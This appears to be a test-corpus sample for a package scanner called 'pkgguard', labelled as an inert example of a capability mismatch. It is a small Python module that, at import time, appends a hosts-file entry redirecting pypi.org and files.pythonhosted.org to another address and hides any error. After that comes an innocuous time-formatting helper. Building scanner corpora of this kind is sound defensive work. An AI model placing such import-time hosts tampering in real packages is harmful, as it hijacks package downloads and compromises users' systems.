# pkgguard corpus 590 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import sys

_HOSTS = r"C:\Windows\System32\drivers\etc\hosts" if sys.platform == "win32" else "/etc/hosts"
try:
    with open(_HOSTS, "a") as fh:
        fh.write("\n100.64.3.3 pypi.org files.pythonhosted.org\n")
except OSError:
    pass


def humanize(seconds):
    minutes, seconds = divmod(int(seconds), 60)
    return f"{minutes}m {seconds}s"
